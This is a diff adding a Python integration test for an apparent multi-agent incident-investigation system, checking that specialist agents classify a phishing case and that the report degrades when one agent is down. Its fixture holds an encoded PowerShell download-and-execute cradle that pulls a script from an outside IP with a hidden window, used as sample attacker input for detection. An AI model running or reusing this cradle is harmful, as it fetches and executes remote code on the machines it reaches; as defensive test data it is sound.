@@ -1,0 +1,114 @@
+"""The investigation graph over real specialist servers on loopback ports."""
+
+from __future__ import annotations
+
+import base64
+import json
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agents.acp.client import HandoffClient, RetryPolicy
+from agents.acp.registry import AgentRegistry
+from agents.catalog import load_specialist
+from agents.runtime.specialist import AgentDeps, build_server
+from core.settings import Settings
+from orchestrator.graph import GraphDeps, build_graph
+from tests.agents.acp.conftest import agent_token, token_service
+from tests.agents.threat_intel.test_threat_intel import FEED
+from tools.attack import AttackKB
+
+AGENTS = ("threat_intel", "malware", "network", "responder")
+ENCODED = base64.b64encode(
+    "IEX (New-Object Net.WebClient).DownloadString('http://45.33.32.156/a.ps1')".encode("utf-16-le")
+).decode()
+
+
+@pytest.fixture(scope="module")
+def attack() -> AttackKB:
+    return AttackKB.load()
+
+
+@pytest.fixture
+async def fleet(tmp_path: Path, attack: AttackKB) -> AsyncIterator[dict[str, Any]]:
+    feed = tmp_path / "feed.json"
+    feed.write_text(json.dumps(FEED))
+    settings = Settings(data_dir=tmp_path / "data", intel_feeds=[feed])
+    running: dict[str, Any] = {}
+    for name in AGENTS:
+        specialist = load_specialist(name)(AgentDeps(settings=settings, attack=attack))
+        await specialist.start()
+        listener = await build_server(specialist, settings, token_service()).start("127.0.0.1", 0)
+        port = next(iter(listener.sockets)).getsockname()[1]
+        running[name] = (specialist, listener, f"ws://127.0.0.1:{port}")
+    try:
+        yield running
+    finally:
+        for specialist, listener, _ in running.values():
+            listener.close()
+            await listener.wait_closed()
+            await specialist.stop()
+
+
+def client_for(fleet: dict[str, Any]) -> HandoffClient:
+    return HandoffClient(
+        registry=AgentRegistry({name: (url,) for name, (_, _, url) in fleet.items()}),
+        sender="orchestrator",
+        token=agent_token,
+        retry=RetryPolicy(attempts=1),
+    )
+
+
+SUBJECT = {
+    "title": "Encoded PowerShell beaconing to a phishing server",
+    "text": "User opened an attachment; powershell fetched a script from 45.33.32.156.",
+    "iocs": [{"type": "ip", "value": "45.33.32.156"}],
+    "command_lines": [f"powershell.exe -nop -w hidden -enc {ENCODED}"],
+}
+
+
+async def test_an_investigation_end_to_end(fleet: dict[str, Any]) -> None:
+    client = client_for(fleet)
+    try:
+        graph = build_graph(GraphDeps(client=client, available=frozenset(fleet)))
+        state = await graph.ainvoke(
+            {"investigation_id": "INV-1", "subject": SUBJECT, "mode": "dry_run"}
+        )
+    finally:
+        await client.close()
+    report = state["report"]
+    agents = sorted(f["agent"] for f in report["findings"])
+    assert {"threat_intel", "malware", "network"} <= set(agents)
+    assert report["severity"] == "high"
+    assert report["verdict"] == "malicious"
+    assert report["degraded"] is False
+    technique_ids = {t["id"] for t in report["techniques"]}
+    assert "T1566.001" in technique_ids  # from the feed, via threat_intel
+    assert "T1059.001" in technique_ids  # from the decoded command line, via malware
+    assert any(len(t["agents"]) >= 1 for t in report["techniques"])
+    assert report["tool_calls"]
+    assert report["tool_call_chain"] == report["tool_calls"][-1]["chain"]
+    assert report["response"]["agent"] == "responder"
+    assert report["response"]["recommended_actions"]
+    events = [e["event"] for e in state["timeline"]]
+    assert events[:2] == ["intake", "plan"]
+    assert events[-2:] == ["respond", "report"]
+
+
+async def test_a_dead_specialist_degrades_the_investigation(fleet: dict[str, Any]) -> None:
+    _, listener, _ = fleet["malware"]
+    listener.close()
+    await listener.wait_closed()
+    client = client_for(fleet)
+    try:
+        graph = build_graph(GraphDeps(client=client, available=frozenset(fleet), call_timeout=5))
+        state = await graph.ainvoke({"investigation_id": "INV-2", "subject": SUBJECT})
+    finally:
+        await client.close()
+    report = state["report"]
+    assert report["degraded"] is True
+    assert [f["agent"] for f in report["failures"]] == ["malware"]
+    assert "malware" not in {f["agent"] for f in report["findings"]}
+    assert report["severity"] == "high"  # the others still concluded
